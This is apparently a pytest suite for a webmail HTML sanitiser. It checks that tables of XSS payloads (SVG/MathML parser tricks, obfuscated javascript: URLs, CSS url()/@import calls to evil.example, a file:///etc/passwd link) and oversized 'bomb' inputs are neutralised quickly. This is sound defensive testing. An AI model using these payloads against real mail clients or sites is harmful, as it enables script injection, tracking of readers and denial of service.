"""Rows of the attack checklist, one table: what goes in, what must not come out."""

from concurrent.futures import ThreadPoolExecutor

import pytest
import tinycss2
from selectolax.lexbor import LexborHTMLParser

from tests.webmail.html.inspection import problems
from webmail.html import NO_PICTURE, ImagePolicy, LinkPolicy, SafeHtml, sanitise_html, writing

EVIL = "https://evil.example"


def clean(source: str, **options) -> SafeHtml:
    return sanitise_html(source, images=ImagePolicy(), **options)


ATTACKS = {
    1: [
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    ],
    2: [
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><animate attributeName=href by=javascript:alert(1)></svg>",
        "<svg><animate attributeName=style values='fill:url(https://evil.example/a)'></svg>",
    ],
    3: [
        f"<svg><filter><feImage href='{EVIL}/a'/></filter></svg>",
        f"<svg><image href='{EVIL}/a'/><use href='{EVIL}/b#c'/></svg>",
        f"<svg><rect fill='url({EVIL}/a#b)' filter='url({EVIL}/c' stroke='url(//evil.example/d)'/></svg>",
        f"<p fill='url({EVIL}/a)' style='fill:url({EVIL}/a'>x</p>",
    ],
    4: [
        f"<p style='background:u\\72l({EVIL}/a)'>x</p>",
        f"<p style='background:\\75\\72\\6c({EVIL}/a)'>x</p>",
        f"<p style='background:url/**/({EVIL}/a)'>x</p>",
        f"<p style='background:/*/**/url({EVIL}/a)/**/'>x</p>",
        f"<p style='background:image-set/**/(\"{EVIL}/a\" 1x)'>x</p>",
        "<p style='background:url/**/(/logout)'>x</p><style>p{background:url/**/(a)}</style>",
        f"<p style='background-image:image-set(\"{EVIL}/a\" 1x)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='width:e\\xpression(alert(1))'>x</p>",
        "<p style='color:red}body{background:url(//evil.example)'>x</p>",
        f"<style>@import '{EVIL}/a.css';</style>x",
        f"<style>@\\69mport url({EVIL}/a.css);p{{color:red}}</style>x",
        f"<style>@font-face{{font-family:a;src:url({EVIL}/a)}}</style>x",
        f"<style>p{{background:url({EVIL}/a</style>x",
        "<style></styl\\65><p>{color:red}</style>x",
        "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>x",
        "<style>a[title='</style><script>alert(1)</script>']{color:red}</style>x",
        f"<style>p::before{{content:url({EVIL})}}input[value^=a]{{background:url({EVIL}/a)}}</style>x",
    ],
    5: [
        f"<p style='--a:url({EVIL}/a);background:var(--a)'>x</p>",
        f"<style>:root{{--a:url({EVIL}/a)}}p{{background:var(--a, url({EVIL}))}}</style>x",
    ],
    7: [
        f"<body background='{EVIL}/a'>x",
        f"<table background='{EVIL}/a'><tr><td background='//evil.example/b'>x</table>",
        "<td background='x);background:url(https://evil.example'>x</td>",
        "<body style='background:url(https://evil.example/a)' bgcolor='red;background:url(//e)'>x",
    ],
    8: [
        "<p style='position:fixed!important;top:0;left:0;z-index:9999'>x</p>",
        "<style>:root{position:fixed!important;inset:0}p{position:sticky;transform:scale(9)}</style>x",
    ],
    9: [
        f"<link rel=stylesheet href='{EVIL}/a.css'>x",
        "<?xml-stylesheet href='//evil.example/a'?>x",
    ],
    23: [
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>alert(1)</script></template>",
        "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
        "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><noembed><img onerror=x></noembed>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<p title='<!--'><img title='--><img src=x onerror=alert(1)>'>",
    ],
    24: [
        "<a href='java\u200bscript:alert(1)'>x</a>",
        "<a href='\x01javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript&colon;alert(1)'>x</a>",
        "<a href='\u202ejavascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='view-source:https://evil.example'>x</a>",
        "<a href='blob:https://evil.example/1'>x</a><a href='file:///etc/passwd'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a><a href='//evil.example'>x</a><a href='/logout'>x</a>",
        "<form action='https://evil.example'><input name=a><button formaction='javascript:alert(1)'>x",
        "<img src='javascript:alert(1)'><img src='data:text/html,<script>'><img src='/logout'>",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<img src='data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<p onclick=alert(1) ONMOUSEOVER='alert(1)' style='color:red'>x</p>",
    ],
    25: [
        "<meta http-equiv=refresh content='0;url=https://evil.example'>x",
        "<base href='https://evil.example/'><a href='x'>y</a>",
        "<link rel=prefetch href='https://evil.example'><link rel=dns-prefetch href='//evil.example'>x",
        "<a href='https://ok.example' ping='https://evil.example'>x</a>",
        "<img srcset='https://evil.example/a 1x' lowsrc='https://evil.example/b' dynsrc=//evil.example>",
        "<video poster='https://evil.example/a' src='https://evil.example/b'></video>",
        "<object data='https://evil.example/a'></object><embed src='https://evil.example/a'>",
        "<input type=image src='https://evil.example/a'><isindex action='https://evil.example'>",
    ],
}


@pytest.mark.parametrize(
    ("row", "source"), [(row, source) for row, sources in ATTACKS.items() for source in sources]
)
@pytest.mark.parametrize("second_wash", [False, True])
def test_attack_leaves_nothing(row, source, second_wash):
    safe = clean(source, second_wash=second_wash)
    assert problems(safe) == []
    assert not safe.text_view
    assert EVIL not in safe.body + safe.css + safe.body_style


def test_svg_and_its_content_are_gone():
    assert clean("a<svg><text>secret</text></svg>b").body == "ab"


def test_declarations_parse_again_to_the_same():
    """Row 6: what a browser reads from the attribute is what the CSS filter wrote."""
    source = """<p style="font-family:'a&quot;;position:fixed;b&amp;quot;',serif;color:red">x</p>"""
    body = clean(source).body
    style = LexborHTMLParser(body).css_first("p").attributes["style"]
    declarations = tinycss2.parse_blocks_contents(style)
    assert [item.name for item in declarations] == ["font-family", "color"]
    assert clean(body).body == body


def test_local_and_private_images_follow_the_same_policy():
    """Row 10: no host is special."""
    for url in ("http://localhost/a", "http://127.0.0.1/a", "https://webmail.example/a"):
        safe = clean(f"<img src='{url}' width=10 height=20 alt=x>")
        assert safe.remote_images == (url,)
        assert f'src="{NO_PICTURE}"' in safe.body
        assert all(part in safe.body for part in ('width="10"', 'height="20"', 'alt="x"'))


def test_output_of_nh3_is_the_output(monkeypatch):
    """Row 11: nothing edits what nh3 wrote last."""
    outputs = []
    real = writing._clean

    def remember(source, cleaner, attribute_filter):
        outputs.append(real(source, cleaner, attribute_filter))
        return outputs[-1]

    monkeypatch.setattr(writing, "_clean", remember)
    plain = clean("<p onclick=x>Hello <b>you</b></p>")
    assert plain.body == outputs[-1] and len(outputs) == 1
    folded = clean("<p>Hi</p><div class=gmail_quote>On … wrote<blockquote>x</blockquote></div>")
    assert folded.body == outputs[-1] and "<details" in folded.body


@pytest.mark.parametrize("failure", [BaseException("panic"), ValueError("bad"), MemoryError()])
def test_failure_of_nh3_is_the_text_view(monkeypatch, failure, caplog):
    class Broken:
        def clean(self, source):
            raise failure

    monkeypatch.setattr(writing, "_OF_HTML", Broken())
    safe = clean("<p>Hello</p><script>alert(1)</script>")
    assert safe.text_view and safe.limits_hit == ("writer",)
    assert "Hello" in safe.body and "alert" not in safe.body


def test_cleaners_are_shared_and_filters_are_not():
    """A filter holds for its own writing: not within it, not after it, not in another thread."""
    inner = []

    def outer_filter(tag, attribute, value):
        inner.append(writing.write("<p title=b>", lambda *_: "inner"))
        return "outer"

    def in_thread(word):
        return {writing.write("<p title=a>x</p>" * 50, lambda *_: word) for _ in range(100)}

    assert writing.write("<p title=a><b title=c>", outer_filter).count('="outer"') == 2
    assert inner == ['<p title="inner"></p>'] * 2
    with ThreadPoolExecutor(4) as pool:
        for word, found in zip("wxyz", pool.map(in_thread, "wxyz"), strict=True):
            assert found == {f'<p title="{word}">x</p>' * 50}
    assert writing._OF_HTML.clean("<p title=a>") == "<p></p>"  # nobody answers: nothing passes


def test_failing_image_rule_removes_the_attribute(caplog):
    def fail(url):
        raise RuntimeError(url)

    safe = sanitise_html("<img src=https://a.example/b.png alt=x>", images=ImagePolicy(remote=fail))
    assert "src=" not in safe.body and 'alt="x"' in safe.body
    assert safe.removed["filter-error"] == 1
    assert "a.example" not in caplog.text.split("Traceback")[0]


def test_failing_link_rule_removes_the_target(caplog):
    def fail(url):
        raise RuntimeError(url)

    safe = clean("<a href=https://evil.example>bank.example</a>", deceptive_href=fail)
    assert "href=" not in safe.body and "bank.example" in safe.body


BOMBS = {
    "200,000 nested div": "<div>" * 200_000,
    "20,000 nested div": "<div>" * 20_000,
    "1M ampersands": "&" * 1_000_000,
    "1M no-break spaces": "\xa0" * 1_000_000,
    "1M less-than": "<" * 1_000_000,
    "50,000 attributes": "<p " + " ".join(f"a{i}" for i in range(50_000)) + ">x</p>",
    "quoted attributes": "<p " + " ".join(f'a{i}="v w"' for i in range(5_000)) + ">x</p>",
    "fake quotes": '<p " ' + " ".join(f"a{i}" for i in range(5_000)) + ' ">x</p>',
    "reopened fonts": "".join(f"<b x={i}>" for i in range(450)) + "<p>z" * 39_000,
    "font, b, i, a": "".join(f"<font x={i}><b y={i}><i z={i}>" for i in range(5_000)),
    "nesting behind a comment": "<!-->" + "<div>" * 2_000,
    "nesting behind a style": "<style><!--</style>" + "<div>" * 2_000,
    "nesting in svg": "<svg><style>" + "<div>" * 2_000,
    "too much": "x" * (1024 * 1024 + 1),
}


@pytest.mark.parametrize("name", BOMBS)
def test_bomb_is_the_text_view_in_time(name, clock):
    safe = clean(BOMBS[name])
    assert clock() < 3
    assert safe.text_view and safe.limits_hit
    assert problems(safe) == []


CSS_BOMBS = {
    "a{ x 100,000": "<style>" + "a{" * 100_000 + "</style><p>x",
    "a{ within limits": "<style>" + "a{" * 30_000 + "</style><p>x",
    "3,000 rules": "<style>" + "".join(f"a{i}{{color:red}}" for i in range(3_000)) + "</style><p>x",
    "30,000 selectors": "<style>" + "a," * 30_000 + "a{color:red}</style><p>x",
    "nested media": "<style>" + "@media all{" * 4_000 + "</style><p>x",
    "5,000 styles": "".join(f"<p style='margin:{i}px'>x" for i in range(5_000)),
    "brackets": "<p style='width:" + "calc(" * 700 + "'>x",
    "30,000 no-break spaces": ("\xa0" + "x" * 33) * 30_000,
    "long style": f"<p style='color:{'red ' * 2000}'>x",
    "comments": "<!--" * 39_000,
    "quotes": "x<blockquote type=cite>y</blockquote>" * 10_000,
    "nested quotes": ("x" + "<blockquote>" * 2 + "y" + "</blockquote>" * 2) * 9_000,
    "links in tables": "<a href=https://x.example><table>" * 240 + "z" * 500_000,
}


@pytest.mark.parametrize("name", CSS_BOMBS)
def test_bomb_within_the_guards_is_shown_in_time(name, clock):
    safe = clean(CSS_BOMBS[name])
    assert clock() < 3
    assert problems(safe) == []


def test_style_limits_are_reported():
    assert "css" in clean(CSS_BOMBS["3,000 rules"]).limits_hit
    assert "css" in clean(CSS_BOMBS["a{ x 100,000"]).limits_hit
    assert "style-attributes" in clean(CSS_BOMBS["5,000 styles"]).limits_hit
    assert "style-attribute" in clean(CSS_BOMBS["long style"]).limits_hit


def test_text_view_keeps_the_words():
    safe = clean("<div>" * 600 + "<p>Hello <b>you</b></p><script>alert(1)</script>https://a.com/x")
    assert safe.text_view
    assert "Hello you" in safe.body.replace("  ", " ") and "alert" not in safe.body
    assert 'href="https://a.com/x"' in safe.body


def test_layout_of_a_mail_is_kept():
    source = (
        '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center"'
        ' bgcolor="#eeeeee" role="presentation"><tr><td colspan="2" valign="top"'
        ' style="padding:8px 16px;font:bold 14px/20px Arial,sans-serif">Hi</td></tr></table>'
    )
    body = clean(source).body
    for part in (
        'width="600"',
        'cellpadding="0"',
        'bgcolor="#eeeeee"',
        'role="presentation"',
        'colspan="2"',
        "padding:8px 16px;font:bold 14px/20px Arial,sans-serif",
    ):
        assert part in body
    assert clean(source).removed == {}


def test_body_attributes_are_rebuilt():
    safe = clean("<body bgcolor='#fafafa' text=navy style='margin:0;position:fixed' onload=x>Hi")
    assert safe.body_style == "background-color:#fafafa;color:navy;margin:0"
    assert clean("<body bgcolor='red;x:y'>").body_style == ""


def test_conditional_comments_are_gone():
    body = clean("<!--[if mso]><p>outlook</p><![endif]--><![if !mso]><p>all</p><![endif]>").body
    assert "outlook" not in body and "all" in body


def test_nul_is_replaced_and_surrogates_do_not_raise():
    assert "\ufffd" in clean("a\x00b").body
    assert problems(clean("a\ud800b<p title='\udfff'>c")) == []


def test_own_policy_object():
    safe = clean(
        "<a href='mailto:a@b.example?bcc=c@d.example&subject=Hi'>write</a>",
        links=LinkPolicy(mailto=lambda url: "/write?" + url),
    )
    assert 'href="/write?mailto:a@b.example?subject=Hi"' in safe.body
